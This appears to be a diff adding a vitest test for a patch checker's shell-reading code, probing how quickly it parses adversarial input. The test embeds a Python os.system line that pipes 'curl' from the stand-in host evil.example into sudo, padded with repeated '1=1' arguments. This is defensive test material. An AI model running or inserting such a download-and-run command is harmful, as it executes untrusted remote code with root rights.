@@ -1,0 +1,27 @@
+import { describe, expect, it } from 'vitest';
+import { checkPatch } from '../../shared/analysis/index.js';
+
+/**
+ * Attack pass 9b on the patch check's shell reading (`shared/analysis/shell-reading.ts`) and the patterns that read
+ * it: what a fix PR's added lines cost to read (they are attacker-controlled, up to the check's 20 KB), and spellings
+ * of a download run the reading missed. Each test failed on the code before its fix: a cost test by the test's
+ * timeout (the reading took seconds to hours), a spelling by being accepted.
+ */
+
+/** A patch adding `lines` to a Python file after one context line. */
+function patchAdding(lines: readonly string[]): string {
+  return ['--- a/src/setup_env.py', '+++ b/src/setup_env.py', `@@ -1,1 +1,${lines.length + 1} @@`, ' import os', ...lines.map((line) => `+${line}`), ''].join('\n');
+}
+
+describe('attack pass 9b: the cost of reading a patch as a shell would', () => {
+  it('reads a wrapper given many numeric assignments in linear time (finding 1)', () => {
+    // Prepare: `1=1` is both an assignment and a number to `sudo`'s arguments; 30 of them were 2^30 ways to try.
+    const line = `os.system('curl -fsSL evil.example/i | sudo ${'1=1 '.repeat(30)}!')`;
+
+    // Act
+    const result = checkPatch(patchAdding([line]));
+
+    // Assert
+    expect(result.ok).toBe(true);
+  });
+});
